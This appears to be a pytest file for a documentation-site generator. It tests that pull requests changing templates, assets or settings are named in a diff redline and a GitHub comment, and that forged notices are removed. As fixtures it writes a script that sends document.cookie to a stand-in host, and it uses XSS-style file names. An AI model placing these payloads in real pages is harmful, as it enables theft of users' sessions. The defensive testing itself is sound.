"""A pull request that changes the site's code says so (issue 11, category 4).

Templates, assets and mkdocs.yml are the site's code. The redline (`charters diff
--format markdown`, from a real git repository) and the sticky comment (posted to
a local stand-in for GitHub's API, which lists the pull request's files) must
both state in words that the change is more than text, and name the files. The
comment's statement comes from GitHub, so a pull request cannot leave it out.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import run
from fake_github import serve
from gitrepo import DocRepo, constitution, git
from test_pr_comment import post

from generator.diff.as_markdown import SITE_CODE_START
from generator.history import changed_files, is_site_code

WORDS = "This pull request changes how the site works, not only its text."


@pytest.fixture
def repo(tmp_path: Path) -> DocRepo:
    repo = DocRepo(tmp_path / "repo")
    repo.save(constitution(), "Adopt", "2024-01-20")
    return repo


def _change_text(repo: DocRepo) -> None:
    doc = constitution(version="1.1")
    doc["status"] = "draft"
    doc.pop("decision", None)
    doc["articles"][0]["clauses"][0]["text"] += " Amended."
    repo.write(doc)


def _markdown(repo: DocRepo, *revisions: str) -> str:
    result = run("diff", *revisions, "--format", "markdown", cwd=repo.root)
    assert result.exit_code == 0, result.output
    return result.output


CODE_CHANGES = {
    "template": "templates/partials/banner.html",
    "override": "templates/overrides/main.html",
    "asset script": "templates/assets/charters.js",
    "settings": "mkdocs.yml",
    "logo": "images/logo.png",
}


@pytest.mark.parametrize("name", sorted(CODE_CHANGES))
def test_a_change_to_the_sites_code_is_named_in_the_redline(name: str, repo: DocRepo) -> None:
    path = repo.root / CODE_CHANGES[name]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("<script>fetch('https://evil.example/' + document.cookie)</script>\n")
    _change_text(repo)
    repo.commit("Amend, and change the site", "2024-02-01")
    markdown = _markdown(repo, "HEAD~1", "HEAD")
    assert WORDS in markdown
    assert f"> - {CODE_CHANGES[name].replace('_', chr(92) + '_')}" in markdown
    # First thing after the title: a reviewer cannot miss it.
    assert markdown.index(WORDS) < markdown.index("| Document |")


def test_a_change_of_text_only_has_no_such_notice(repo: DocRepo) -> None:
    _change_text(repo)
    repo.commit("Amend", "2024-02-01")
    markdown = _markdown(repo, "HEAD~1", "HEAD")
    assert WORDS not in markdown and SITE_CODE_START not in markdown


def test_the_working_tree_counts_new_files(repo: DocRepo) -> None:
    (repo.root / "templates" / "assets").mkdir(parents=True)
    (repo.root / "templates" / "assets" / "new.js").write_text("alert(1)\n")
    _change_text(repo)
    assert "templates/assets/new.js" in changed_files(repo.docs, "HEAD")
    markdown = _markdown(repo)
    assert WORDS in markdown and "templates/assets/new.js" in markdown


def test_a_hostile_file_name_is_shown_as_text(repo: DocRepo) -> None:
    name = "templates/[click](javascript:alert(1))<img src=x onerror=alert(2)>.html"
    (repo.root / "templates").mkdir()
    (repo.root / name).write_text("x\n")
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-q", "-m", "Rename", date="2024-02-01")
    markdown = _markdown(repo, "HEAD~1", "HEAD")
    assert WORDS in markdown
    assert "<img" not in markdown and "[click](javascript" not in markdown
    assert "\\[click\\](javascript:alert(1))&lt;img src=x onerror=alert(2)&gt;.html" in markdown


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("templates/pages/index.html", True),
        ("mkdocs.yml", True),
        ("site/theme.css", True),
        ("constitutions/town.yaml", False),
        ("README.md", False),
        ("schema/charter.schema.json", False),
    ],
)
def test_what_counts_as_the_sites_code(path: str, code: bool) -> None:
    assert is_site_code(path) is code


# --- the sticky comment: the statement comes from GitHub's list of files ------------------------


@pytest.fixture
def github() -> Iterator[object]:
    with serve() as fake:
        yield fake


def test_the_comment_names_site_code_even_when_the_body_leaves_it_out(github, tmp_path) -> None:
    github.files[7] = [
        {"filename": "constitutions/kestrel-vale-constitution.yaml"},
        {"filename": "templates/overrides/partials/copyright.html"},
        {"filename": "templates/assets/x.js", "previous_filename": "templates/assets/charters.js"},
    ]
    # The artifact comes from the pull request's own run: it may say anything.
    body = "## Amendment redline\n\nOnly a comma changed.\n"
    result = post(github, tmp_path, "workflow_run-fork.json", "7\n", body)
    assert result.exit_code == 0, result.output
    posted = github.writes()[0][2]["body"]
    assert WORDS in posted
    for name in ("copyright.html", "templates/assets/x.js", "templates/assets/charters.js"):
        assert name in posted
    assert posted.index(WORDS) < posted.index("Only a comma changed.")


def test_a_forged_notice_in_the_body_is_replaced(github, tmp_path) -> None:
    github.files[7] = [{"filename": "mkdocs.yml"}]
    forged = (
        "## Amendment redline\n\n<!-- charters-site-code -->\n> Nothing to see: only README.md\n"
        "<!-- /charters-site-code -->\nText.\n"
    )
    result = post(github, tmp_path, "workflow_run-fork.json", "7\n", forged)
    assert result.exit_code == 0, result.output
    posted = github.writes()[0][2]["body"]
    assert "Nothing to see" not in posted
    assert posted.count(WORDS) == 1 and "> - mkdocs.yml" in posted


def test_a_forged_notice_is_removed_when_only_text_changed(github, tmp_path) -> None:
    forged = f"## Amendment redline\n\n{SITE_CODE_START}\n> {WORDS}\n<!-- /charters-site-code -->\n"
    result = post(github, tmp_path, "workflow_run-fork.json", "7\n", forged)
    assert result.exit_code == 0
    assert WORDS not in github.writes()[0][2]["body"]
